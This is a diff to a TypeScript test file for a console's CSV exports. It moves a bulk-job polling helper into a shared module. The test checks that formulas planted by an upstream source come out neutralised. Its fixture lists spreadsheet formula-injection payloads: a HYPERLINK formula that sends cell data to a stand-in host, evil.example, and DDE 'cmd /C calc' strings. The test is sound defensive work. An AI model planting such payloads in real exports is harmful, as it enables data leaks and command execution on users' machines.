@@ -8,11 +8,11 @@ import { createServer, type Server } from 'node:http';
 import { once } from 'node:events';
 import { randomUUID } from 'node:crypto';
 import type { AddressInfo } from 'node:net';
-import { setTimeout as sleep } from 'node:timers/promises';
 import { startTestConsole, type TestConsole } from '../helpers/console.js';
 import { http, signIn, type SessionCredentials } from '../helpers/http.js';
 import { providerName } from '../helpers/fixtures.js';
 import { csvRecords, readCsvWithPython } from '../helpers/python-csv.js';
+import { finishedJob } from '../helpers/bulk.js';
 
 // What a hostile (or compromised) upstream puts in the claims, one per row.
 const PLANTED_SUBS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
@@ -53,14 +53,7 @@ after(async () => {
 
 const as = (s: SessionCredentials) => ({ cookie: s.cookie, 'x-csrf-token': s.csrfToken });
 
-async function finished(jobId: string, who: Record<string, string> = {}): Promise<any> {
-  for (let i = 0; i < 600; i++) {
-    const job = (await http<any>('GET', `${app.url}/api/bulk/${jobId}`, undefined, who)).json;
-    if (job.state !== 'running') return job;
-    await sleep(20);
-  }
-  throw new Error('bulk job did not finish');
-}
+const finished = (jobId: string, who: Record<string, string> = {}) => finishedJob(app.url, jobId, who);
 
 test('a planted formula in a bulk row (sub, email, jti) and in an audit row (actor) comes out neutralised in both CSVs', async () => {
   const upstreamUrl = (app as TestConsole & { upstreamUrl: string }).upstreamUrl;
